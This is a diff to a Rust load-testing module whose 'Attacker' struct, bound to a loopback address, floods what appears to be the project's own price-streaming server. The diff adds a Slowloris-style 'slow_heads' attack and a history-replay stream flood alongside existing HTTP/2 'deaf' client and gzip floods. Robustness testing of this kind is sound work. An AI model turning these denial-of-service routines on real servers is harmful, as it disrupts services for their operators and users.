@@ -5,8 +5,10 @@ use std::net::{IpAddr, Ipv4Addr, SocketAddr};
 use std::time::Duration;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::{TcpSocket, TcpStream};
-use tokio::time::{sleep, timeout};
+use tokio::time::{interval, sleep, timeout};
 
+/// Address of the attacker.
+const SOURCE: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 1, 1));
 /// Pause after a connection that was refused.
 const PAUSE: Duration = Duration::from_millis(200);
 /// Number of bytes that a server may send on each stream before the client opens its window further (RFC 9113 §6.9.2).
@@ -14,29 +16,26 @@ const DEFAULT_WINDOW: u32 = 65_535;
 /// Largest window (RFC 9113 §6.9.1).
 const MAX_WINDOW: u32 = (1 << 31) - 1;
 
-/// Source and target of an attack.
+/// Attack from the address [`SOURCE`].
 #[derive(Clone, Copy, Debug)]
 pub struct Attacker {
     /// Attacked port.
     pub target: SocketAddr,
-    /// Number of addresses of the attacker. Its connections are spread over them.
-    pub addresses: u8,
 }
 
 impl Attacker {
-    async fn connect(self, number: usize) -> std::io::Result<TcpStream> {
-        let last = u8::try_from(number % usize::from(self.addresses)).expect("the rest is smaller than the divisor");
+    async fn connect(self) -> std::io::Result<TcpStream> {
         let socket = TcpSocket::new_v4()?;
-        socket.bind((IpAddr::from(Ipv4Addr::new(127, 0, 1, 1 + last)), 0).into())?;
+        socket.bind((SOURCE, 0).into())?;
         socket.connect(self.target).await
     }
 
     /// Repeatedly opens this number of connections. On each connection, sends `request` and then reads for at most
     /// `patience`.
     async fn repeat(self, connections: usize, patience: Duration, request: impl Fn() -> Vec<u8>) {
-        join_all((0..connections).map(async |number| {
+        join_all((0..connections).map(async |_| {
             loop {
-                let Ok(mut stream) = self.connect(number).await else {
+                let Ok(mut stream) = self.connect().await else {
                     sleep(PAUSE).await;
                     continue;
                 };
@@ -59,9 +58,9 @@ impl Attacker {
     /// from its sockets.
     pub async fn deaf(self, connections: usize, streams: usize, path: &str) {
         let requests = http2(streams, MAX_WINDOW, path);
-        join_all((0..connections).map(async |number| {
+        join_all((0..connections).map(async |_| {
             loop {
-                if let Ok(mut stream) = self.connect(number).await {
+                if let Ok(mut stream) = self.connect().await {
                     stream.write_all(&requests).await.ok();
                     sleep(Duration::from_secs(4)).await;
                 }
@@ -77,6 +76,11 @@ impl Attacker {
         self.repeat(connections, Duration::from_millis(1500), || requests.clone()).await;
     }
 
+    /// Repeatedly replays the whole history for streams that want one tick a day.
+    pub async fn throttled_replays(self) {
+        self.streams(60, "/v1/prices/stream?since=0&every=24h&changes=true").await;
+    }
+
     /// Requests `path` with gzip, and reads each response for a second.
     pub async fn compressed(self, connections: usize, path: &str) {
         let request = format!("GET {path} HTTP/1.1\r\nHost: x\r\nAccept-Encoding: gzip\r\n\r\n").into_bytes();
@@ -87,6 +91,19 @@ impl Attacker {
     pub async fn places(self, connections: usize) {
         let request = b"GET /v1/prices/stream HTTP/1.1\r\nHost: x\r\n\r\n".to_vec();
         self.repeat(connections, Duration::from_secs(60), || request.clone()).await;
+    }
+
+    /// Opens this number of connections each second, and sends a byte of a head each second on all of them.
+    pub async fn slow_heads(self, connections: usize) {
+        let mut open = Vec::new();
+        let mut seconds = interval(Duration::from_secs(1));
+        loop {
+            seconds.tick().await;
+            let more = join_all((0..connections).map(|_| self.connect())).await;
+            open.extend(more.into_iter().flatten());
+            // The server may have closed some of them.
+            open.retain(|stream: &TcpStream| stream.try_write(b"G").is_ok());
+        }
     }
 
     /// Opens streams with new client_ids.
